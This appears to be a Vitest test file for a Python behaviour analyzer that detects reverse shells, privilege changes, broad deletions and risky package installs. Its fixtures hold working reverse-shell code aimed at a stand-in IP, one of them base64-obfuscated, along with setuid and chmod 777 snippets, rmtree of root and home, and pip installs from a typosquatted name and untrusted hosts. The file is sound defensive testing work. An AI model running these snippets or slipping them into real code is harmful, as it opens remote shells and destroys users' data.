import { describe, expect, it } from 'vitest';
import { py } from './support.js';

describe('python reverse shells', () => {
  it.each([
    [
      'dup2 + pty.spawn',
      'import socket, os, pty\ns = socket.socket()\ns.connect(("198.51.100.4", 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/sh")\n',
    ],
    [
      'dup2 + subprocess',
      'import socket as so, subprocess as sp, os\nc = so.socket(so.AF_INET, so.SOCK_STREAM)\nc.connect(("198.51.100.4", 9001))\nos.dup2(c.fileno(), 0); os.dup2(c.fileno(), 1)\nsp.call(["/bin/bash", "-i"])\n',
    ],
    [
      'Popen with socket streams',
      'import socket, subprocess\ns = socket.create_connection(("198.51.100.4", 443))\nsubprocess.Popen(["cmd.exe"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n',
    ],
    [
      'spread across functions',
      'import socket, os, pty\ndef conn():\n    s = socket.socket()\n    s.connect(("198.51.100.4", 53))\n    return s\ndef wire(s):\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\nwire(conn())\npty.spawn(["/bin/zsh"])\n',
    ],
    [
      'decoded into exec',
      'import base64\nexec(base64.b64decode("aW1wb3J0IHNvY2tldCxvcyxwdHkKcz1zb2NrZXQuc29ja2V0KCkKcy5jb25uZWN0KCgiMTk4LjUxLjEwMC40Iiw4MCkpCm9zLmR1cDIocy5maWxlbm8oKSwwKQpwdHkuc3Bhd24oIi9iaW4vc2giKQ=="))\n',
    ],
  ])('%s', async (_name, code) => {
    const { r } = await py(code);
    const rs = r.behaviours.filter((b) => b.kind === 'reverse-shell');
    expect(rs.length).toBe(1);
    expect(rs[0]!.kind === 'reverse-shell' && rs[0]!.endpoint.host).toBe('198.51.100.4');
  });

  it('a client socket and an unrelated subprocess are not a reverse shell', async () => {
    const { r } = await py(
      'import socket, subprocess\ns = socket.create_connection(("localhost", 6379))\ns.sendall(b"PING\\r\\n")\nsubprocess.run(["git", "status"])\n',
    );
    expect(r.behaviours.filter((b) => b.kind === 'reverse-shell')).toEqual([]);
  });
});

describe('python privilege and destruction', () => {
  it.each([
    ['setuid(0)', 'import os\nos.setuid(0)\n', 'setuid'],
    ['setuid bit', 'import os, stat\nos.chmod("/tmp/sh", 0o4755)\n', 'setuid'],
    [
      'setuid bit from stat constants',
      'import os, stat\nos.chmod("/tmp/sh", stat.S_ISUID | stat.S_IRWXU)\n',
      'setuid',
    ],
    ['world writable', 'import os\nos.chmod("/etc/hosts", 0o777)\n', 'world-writable'],
    ['chown to root', 'import os\nos.chown("/tmp/x", 0, 0)\n', 'chown-root'],
  ])('%s', async (_name, code, how) => {
    const { of } = await py(code);
    expect(of('privilege').map((b) => b.how)).toContain(how);
  });

  it.each([
    ['rmtree of root', 'import shutil\nshutil.rmtree("/")\n'],
    ['rmtree of home via expanduser', 'import shutil, os\nshutil.rmtree(os.path.expanduser("~"))\n'],
    [
      'rmtree of Path.home()',
      'from pathlib import Path\nimport shutil as s\ns.rmtree(Path.home(), ignore_errors=True)\n',
    ],
    ['rmtree of HOME env', 'import shutil, os\nshutil.rmtree(os.environ["HOME"])\n'],
    ['name built by getattr', 'import shutil\ngetattr(shutil, "rm" + "tree")("/")\n'],
  ])('%s', async (_name, code) => {
    const { of } = await py(code);
    expect(of('destroy').map((b) => b.how)).toEqual(['rm-broad']);
  });

  it('ordinary permissions and deletions are not reported', async () => {
    const { r } = await py(
      'import os, shutil, stat\nos.chmod("run.sh", 0o755)\nos.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)\nshutil.rmtree("build")\nos.remove("/tmp/x.txt")\n',
    );
    expect(r.behaviours.filter((b) => b.kind === 'privilege' || b.kind === 'destroy')).toEqual([]);
  });
});

describe('python install and imported code', () => {
  it.each([
    ['pip.main', 'import pip\npip.main(["install", "reqeusts"])\n', 'pip install reqeusts'],
    [
      'subprocess with sys.executable',
      'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://x.example.invalid/simple", "pkg"])\n',
      'python3 -m pip install --index-url https://x.example.invalid/simple pkg',
    ],
    [
      'os.system string',
      'import os\nos.system("pip3 install git+https://x.example.invalid/r.git")\n',
      'pip3 install git+https://x.example.invalid/r.git',
    ],
  ])('%s goes to the shell analyzer', async (_name, code, command) => {
    const { shell } = await py(code);
    expect(shell).toContain(command);
  });

  it('sys.path.insert of a folder a download was extracted into is an install', async () => {
    const { of } = await py(
      'import sys, zipfile, urllib.request\nurllib.request.urlretrieve("https://x.example.invalid/m.zip", "/tmp/m.zip")\nzipfile.ZipFile("/tmp/m.zip").extractall("/tmp/m")\nsys.path.insert(0, "/tmp/m")\nimport helper\n',
    );
    expect(of('install')).toMatchObject([{ manager: 'sys.path', spec: '/tmp/m', source: 'url' }]);
  });

  it('sys.path.insert of the script folder is not', async () => {
    const { of } = await py(
      'import sys, os\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n',
    );
    expect(of('install')).toEqual([]);
  });

  it('imports of local modules are sources with their path; the standard library is not', async () => {
    const { of } = await py(
      'import os, json\nimport helpers\nfrom .lib import x\nfrom ..pkg.mod import y as z\nfrom . import utils\nfrom collections import OrderedDict\n',
    );
    expect(of('source').map((b) => b.target.text)).toEqual(['helpers', './lib', '../pkg/mod', './utils']);
  });
});
